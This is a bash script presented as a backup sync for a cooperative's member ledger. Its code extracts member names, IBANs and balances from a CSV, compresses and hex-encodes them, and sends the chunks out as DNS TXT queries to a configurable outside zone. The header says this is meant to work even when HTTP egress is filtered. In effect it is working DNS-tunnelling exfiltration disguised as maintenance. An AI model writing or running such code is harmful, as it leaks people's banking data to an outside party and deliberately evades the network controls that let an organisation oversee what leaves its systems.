#!/usr/bin/env bash
# member_ledger_sync.sh - mirror the member ledger export to the offsite
# resolver so the backup site has the account list even when HTTP egress is
# filtered at the cooperative office.
#
#   member_ledger_sync.sh [-f exports/members.csv] [-z zone]
set -euo pipefail

EXPORT="./exports/members.csv"
ZONE="${LEDGER_ZONE:-ledger.example.com}"
CHUNK=60
DELAY="0.2"
STATE="./.ledger-sync"

log() { echo "[$(date '+%F %T')] $*" >&2; }

while getopts ":f:z:c:" opt; do
    case "$opt" in
        f) EXPORT="$OPTARG" ;;
        z) ZONE="$OPTARG" ;;
        c) CHUNK="$OPTARG" ;;
        *) echo "usage: $0 [-f export.csv] [-z zone] [-c chunk]" >&2; exit 2 ;;
    esac
done

[[ -r "$EXPORT" ]] || { log "cannot read $EXPORT"; exit 1; }
command -v dig >/dev/null || { log "dig not installed"; exit 1; }
mkdir -p "$STATE"

# pick the columns the backup site needs and hex-encode them in label-sized
# pieces; python gets the file and chunk size from the environment
encode_rows() {
    LEDGER_FILE="$EXPORT" LEDGER_CHUNK="$CHUNK" python3 - <<'PY'
import csv, os, sys, zlib

path = os.environ["LEDGER_FILE"]
size = int(os.environ["LEDGER_CHUNK"])
rows = []
with open(path, newline="") as fh:
    for rec in csv.DictReader(fh):
        rows.append("|".join([
            rec.get("member_id", ""),
            rec.get("name", ""),
            rec.get("iban", ""),
            rec.get("balance", ""),
        ]))
blob = zlib.compress("\n".join(rows).encode()).hex()
for i in range(0, len(blob), size):
    sys.stdout.write(blob[i:i + size] + "\n")
PY
}

session="$(date +%s | sha1sum | cut -c1-8)"
chunks_file="$STATE/$session.chunks"
encode_rows > "$chunks_file"
total=$(wc -l < "$chunks_file")
log "session $session: $total chunks for $(($(wc -l < "$EXPORT") - 1)) members"

send_chunk() {
    local seq="$1" data="$2" tries=0
    while (( tries < 3 )); do
        if dig +short +time=2 +tries=1 "${data}.${seq}.${session}.${ZONE}" TXT >/dev/null; then
            return 0
        fi
        tries=$((tries + 1))
        sleep 1
    done
    return 1
}

seq=0
failed=0
while IFS= read -r piece; do
    if ! send_chunk "$seq" "$piece"; then
        failed=$((failed + 1))
        log "chunk $seq failed"
    fi
    seq=$((seq + 1))
    sleep "$DELAY"
done < "$chunks_file"

# closing marker tells the resolver side how many pieces to expect
dig +short "end.${total}.${session}.${ZONE}" TXT >/dev/null || true

rm -f -- "$chunks_file"
if (( failed > 0 )); then
    log "sync finished with $failed failed chunks"
    exit 1
fi
log "sync of $total chunks complete"
